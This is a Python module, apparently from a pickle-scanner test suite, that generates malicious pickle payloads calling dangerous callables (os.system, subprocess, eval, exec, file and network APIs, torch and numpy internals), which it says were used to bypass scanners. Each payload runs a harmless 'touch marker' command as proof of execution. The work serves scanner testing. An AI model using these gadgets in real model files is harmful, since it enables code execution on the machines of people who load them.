"""Callables that run a command or code, or reach out: what scanners were bypassed with.

Sources: the security advisories of mmaitre314/picklescan and trailofbits/fickling, the issues of
protectai/modelscan, "The Art of Hide and Seek" (arXiv 2508.19774).
"""

from __future__ import annotations

from collections.abc import Callable

from attacks.attack import Collection
from attacks.streams import STOP, call, command, source, stack_name, text

ATTACKS = Collection([])


def _words(*values: str) -> bytes:
    """Return the opcodes of a list of texts."""
    return b"](" + b"".join(map(text, values)) + b"e"


def _command(marker: str) -> tuple[bytes, ...]:
    return (text(command(marker)),)


def _source(marker: str) -> tuple[bytes, ...]:
    return (text(source(marker)),)


def _scoped_source(marker: str) -> tuple[bytes, ...]:
    return text(source(marker)), b"}", b"}"


def _argv(marker: str) -> tuple[bytes, ...]:
    return (_words("touch", marker),)


PROVEN: dict[str, Callable[[str], tuple[bytes, ...]]] = {
    "posix system": _command,
    "os system": _command,
    "os popen": _command,
    "os execlp": lambda marker: (text("touch"), text("touch"), text(marker)),
    "subprocess call": _argv,
    "subprocess run": _argv,
    "subprocess Popen": _argv,
    "subprocess check_output": _argv,
    "subprocess getoutput": _command,
    "pty spawn": _argv,
    "builtins eval": _source,
    "builtins exec": _source,
    "builtins open": lambda marker: (text(marker), text("w")),
    "_io FileIO": lambda marker: (text(marker), text("w")),
    "io open": lambda marker: (text(marker), text("w")),
    "io FileIO": lambda marker: (text(marker), text("w")),
    "codecs open": lambda marker: (text(marker), text("w")),
    "gzip open": lambda marker: (text(marker), text("w")),
    "lzma open": lambda marker: (text(marker), text("w")),
    "bz2 open": lambda marker: (text(marker), text("w")),
    "zipfile ZipFile": lambda marker: (text(marker), text("w")),
    "tarfile open": lambda marker: (text(marker), text("w")),
    "logging FileHandler": lambda marker: (text(marker),),
    "logging.handlers WatchedFileHandler": lambda marker: (text(marker),),
    "sqlite3 connect": lambda marker: (text(marker),),
    "mailbox mbox": lambda marker: (text(marker),),
    "pathlib Path.touch": lambda marker: (call(stack_name("pathlib", "PosixPath"), text(marker)),),
    "shutil copyfile": lambda marker: (text("/dev/null"), text(marker)),
    "timeit timeit": _source,
    "timeit main": lambda marker: (_words("-n", "1", "-r", "1", source(marker)),),
    "cProfile run": _source,
    "cProfile runctx": _scoped_source,
    "profile run": _source,
    "profile runctx": _scoped_source,
    "bdb Bdb.run": lambda marker: (call(stack_name("bdb", "Bdb")), text(source(marker))),
    "trace Trace.run": lambda marker: (
        call(stack_name("trace", "Trace"), b"\x89", b"\x89"),
        text(source(marker)),
    ),
    "code InteractiveInterpreter.runsource": lambda marker: (
        call(stack_name("code", "InteractiveInterpreter")),
        text(source(marker)),
    ),
    "runpy _run_code": lambda marker: (
        call(stack_name("builtins", "compile"), text(source(marker)), text("a"), text("exec")),
        b"}",
    ),
    "pydoc pipepager": lambda marker: (text("x"), text(command(marker))),
    "uuid _get_command_stdout": lambda marker: (text("touch"), text(marker)),
    "imaplib IMAP4_stream": lambda marker: (text(f"{command(marker)}; echo '* OK'"),),
    "multiprocessing.util spawnv_passfds": lambda marker: (
        b"C\x0a/bin/touch",
        _words("touch", marker),
        b")",
    ),
    "distutils.file_util write_file": lambda marker: (text(marker), _words("x")),
    "_osx_support _read_output": _command,
    "test.support.script_helper run_python_until_end": lambda marker: (
        text("-c"),
        text(source(marker)),
    ),
    "numpy.testing._private.utils runstring": lambda marker: (text(source(marker)), b"}"),
    "numpy.f2py.crackfortran getlincoef": lambda marker: (
        text(f"__import__('os').system({command(marker)!r})"),
        b"}" + text("x") + b"Ns",
    ),
    "numpy.f2py.crackfortran _eval_length": lambda marker: (text(source(marker)), b"}"),
    "numpy.f2py.crackfortran myeval": lambda marker: (text(source(marker)),),
    "numpy savetxt": lambda marker: (text(marker), _words()),
}
"""The arguments with which a callable makes the marker, where that is easily done."""

NAMES = """
dbm.dumb open, pdb run, idlelib.run Executive.runcode, lib2to3.pgen2.grammar Grammar.loads
doctest debug_script, sysconfig _main, ctypes CDLL, asyncio.base_events BaseEventLoop
_posixsubprocess fork_exec, numpy save, numpy DataSource, os execvp, os spawnvp, os putenv
os remove, nt system, posix fork, posix execv, posix posix_spawn, commands getoutput
popen2 popen3, platform popen, __builtin__ eval, __builtin__ execfile, __builtin__ apply
builtins __build_class__, builtins breakpoint, builtins input, builtins delattr
runpy run_path, runpy run_module, runpy _run_module_code, importlib import_module
importlib reload, importlib.util spec_from_file_location, importlib.machinery SourceFileLoader
_frozen_importlib_external SourceFileLoader, imp load_source, imp load_dynamic
_imp create_dynamic, zipimport zipimporter, pkgutil get_loader, pkgutil ImpImporter
site addsitedir, site main, sitecustomize main, sys exit, sys settrace, gc get_objects
gc get_referrers, inspect currentframe, code interact, code InteractiveInterpreter.runcode
codeop compile_command, idlelib.pyshell ModifiedInterpreter.runcode
idlelib.pyshell ModifiedInterpreter.runcommand, idlelib.autocomplete AutoComplete.get_entity
idlelib.autocomplete AutoComplete.fetch_completions, idlelib.calltip Calltip.fetch_tip
idlelib.calltip get_entity, idlelib.debugobj ObjectTreeItem.SetText
lib2to3.pgen2.pgen ParserGenerator.make_label, lib2to3.pgen2.driver load_grammar
profile Profile.run, profile Profile.runctx, trace Trace.runctx, bdb Bdb.runcall
ensurepip _run_pip, ensurepip bootstrap, pip main, pip._internal.cli.main main, venv create
setuptools setup, setuptools._distutils.spawn spawn, distutils.core run_setup
compileall compile_file, py_compile compile, asyncio.unix_events _UnixSubprocessTransport._start
asyncio.subprocess create_subprocess_shell, asyncio create_subprocess_exec
multiprocessing Process, multiprocessing.pool Pool, multiprocessing.process BaseProcess
multiprocessing.reduction DupFd, multiprocessing.connection Client
multiprocessing.managers BaseManager, concurrent.futures.process ProcessPoolExecutor
concurrent.futures.thread ThreadPoolExecutor, threading Thread, threading Timer
_thread start_new_thread, signal alarm, sched scheduler, socket create_connection, socket socket
_socket socket, socketserver TCPServer, ssl get_server_certificate, ssl SSLContext
http.client HTTPSConnection, http.server HTTPServer, httplib HTTPSConnection
urllib.request urlopen, urllib urlopen, urllib2 urlopen, requests.api get, requests get
aiohttp.client ClientSession, httpx get, urllib3 PoolManager, ftplib FTP, smtplib SMTP
telnetlib Telnet, poplib POP3, nntplib NNTP, imaplib IMAP4, xmlrpc.client ServerProxy
xmlrpc.server SimpleXMLRPCServer, webbrowser open, webbrowser get, ctypes PyDLL
ctypes.util find_library, _ctypes dlopen, cffi FFI, _ctypes PyObj_FromPtr
logging.config dictConfig, logging.config fileConfig, logging.config listen
logging.handlers SocketHandler, logging.handlers HTTPHandler, logging FileHandler
tempfile NamedTemporaryFile, tempfile mkdtemp, shutil rmtree, shutil move, shutil unpack_archive
fileinput input, linecache getlines, glob glob, mmap mmap, filecmp cmp, zipfile ZipFile.extractall
tarfile TarFile.extractall, tarfile TarFile, dbm open, sqlite3 Connection, _sqlite3 connect
readline read_history_file, pickle Unpickler, pickle.Unpickler load, _pickle Unpickler
pickle _Unpickler, pickletools dis, _osx_support _find_build_tool, _aix_support _read_cmd_output
_pyrepl.pager pipe_pager, _xxsubinterpreters run_string, _interpreters run_string
_testcapi run_in_subinterp, sysconfig _init_posix, sysconfig get_config_vars
ensurepip._uninstall _main, turtledemo.__main__ main, antigravity geohash, this s, cgitb enable
pipes Template, crypt crypt, nis cat, ossaudiodev open, spwd getspall, syslog openlog
resource setrlimit, test.support run_with_locale, unittest main, unittest.main TestProgram
operator methodcaller, operator call, types FunctionType
atexit register, weakref finalize, faulthandler register, torch.hub _exec
torch.hub download_url_to_file, torch.hub get_dir, torch._C PyTorchFileWriter
torch._C import_ir_module, torch._C _jit_set_profiling_mode, torch._dynamo.guards GuardBuilder.get
torch._dynamo.utils import_submodule, torch._inductor.codecache compile_file
torch._inductor.codecache DLLWrapper, torch._inductor.runtime.compile_tasks _reload_python_module
torch._inductor.compile_worker main
torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression
torch.jit.unsupported_tensor_ops execWrapper, torch.jit.frontend get_jit_def
torch.jit CompilationUnit, torch.jit script, torch._jit_internal get_callable_argument_names
torch.utils.bottleneck.__main__ run_cprofile, torch.utils.bottleneck.__main__ run_autograd_prof
torch.utils.bottleneck.__main__ main, torch.utils.collect_env run
torch.utils.collect_env run_and_read_all, torch.utils._config_module ConfigModule.load_config
torch.utils._config_module load_config, torch.utils.data.datapipes.utils.decoder basichandlers
torch.utils.data.datapipes.utils.decoder pickleloads, torch.utils.cpp_extension load
torch.utils.cpp_extension load_inline, torch.utils.cpp_extension _run_ninja_build
torch.utils.model_zoo load_url, torch.utils.tensorboard SummaryWriter
torch.utils._cpp_embed_headers main, torch.utils.hipify.hipify_python hipify
torch.distributed.rpc rpc_sync, torch.distributed.rpc.api remote
torch.distributed.launcher.api elastic_launch, torch.distributed.run main
torch.distributed.elastic.multiprocessing start_processes
torch.distributed.distributed_c10d broadcast_object_list, torch.distributed init_process_group
torch.distributed.checkpoint.state_dict_loader load, torch.multiprocessing spawn
torch.multiprocessing.reductions rebuild_storage_fd, torch.classes load_library
torch.ops load_library, torch._ops _OpNamespace, torch.ops _load_global_deps
torch._export.serde.serialize deserialize_torch_artifact, torch.export load
torch._appdirs user_data_dir, torch._sources parse_def
torch.testing._internal.common_utils run_tests, torch.onnx export, torch.onnx.utils export
torch.library impl, torch.from_file main, torch save, torch from_file
torch.UntypedStorage from_file, torch.storage load, torch._lazy.ts_backend init
torch.profiler.profiler profile.export_chrome_trace, torch._functorch.config load_config
torch._dynamo.config load_config, torch.fx.graph_module _exec_with_source
torch.fx.graph_module _forward_from_src, numpy.testing._private.utils runstring
numpy.testing measure, numpy.testing rundocs
numpy.testing._private.utils build_and_import_extension, numpy.testing._private.utils rundocs
numpy.f2py.diagnose run_command, numpy.f2py.compile compile, numpy.f2py main
numpy.distutils.exec_command exec_command, numpy.distutils.misc_util exec_mod_from_location
numpy.ctypeslib load_library, numpy.compat.py3k npy_load_module, numpy.core._internal system
numpy loads, numpy genfromtxt, numpy loadtxt, numpy.lib._datasource open, numpy.lib.npyio NpzFile
numpy.lib.format open_memmap, numpy.core.memmap memmap, numpy _pytesttester, numpy.memmap __init__
numpy._core._multiarray_tests run, scipy.io loadmat, scipy.io.wavfile write
scipy._lib._ccallback get_raw_ccallback, scipy.weave inline, scipy.misc imsave
scipy.datasets download_all, pandas eval, pandas.core.computation.eval eval
pandas DataFrame.query, pandas DataFrame.eval, pandas.core.frame DataFrame.eval, pandas read_csv
pandas.io.common get_handle, pandas.util._exceptions find_stack_level
pandas.core.frame DataFrame.to_pickle, pandas._testing.compat get_obj
pandas.compat.pickle_compat load, tensorflow load_op_library
tensorflow.python.lib.io.file_io write_string_to_file, keras.utils get_file
keras.layers.core.lambda_layer Lambda.from_config, mlflow.projects.backend.local _run_entry_point
mlflow.pyfunc load_model, transformers.utils.hub cached_file
transformers.dynamic_module_utils get_class_from_dynamic_module, huggingface_hub snapshot_download
hydra.utils instantiate, hydra.utils call, hydra._internal.instantiate._instantiate2 instantiate
IPython get_ipython, IPython.core.interactiveshell InteractiveShell.system, pexpect run
invoke run, fabric Connection, paramiko SSHClient, sh Command, plumbum local, psutil Popen
execnet makegateway, rpyc connect, boto3 client, yaml unsafe_load, yaml load, ruamel.yaml load
jsonpickle decode, jinja2 Template, nltk.data load, nltk.app.nemo_app launch
py._path.local LocalPath, py._code.source compile_, conda.cli.main main
sympy.core.sympify sympify, sympy.parsing.sympy_parser parse_expr
gymnasium.envs.registration load_env_creator, gym.envs.registration load, fsspec open
smart_open open, dill loads, cloudpickle loads, marshal loads, wsgiref.simple_server make_server
pyexpat ParserCreate, tkinter Tk, curses initscr
"""
"""Other callables of that kind, each called with a text."""

for entry, arguments in PROVEN.items():
    module, _, attribute = entry.partition(" ")
    ATTACKS.add(
        "known gadgets",
        "dangerous",
        f"{module} {attribute} called",
        lambda marker, module=module, attribute=attribute, arguments=arguments: (
            b"\x80\x04" + call(stack_name(module, attribute), *arguments(marker)) + STOP
        ),
        proof="pickle",
    )

for entry in dict.fromkeys(NAMES.replace("\n", ", ").split(", ")):
    if not entry:
        continue
    module, _, attribute = entry.partition(" ")
    ATTACKS.add(
        "known gadgets",
        "dangerous",
        entry,
        lambda marker, module=module, attribute=attribute: (
            b"\x80\x04" + call(stack_name(module, attribute), text(command(marker))) + STOP
        ),
    )
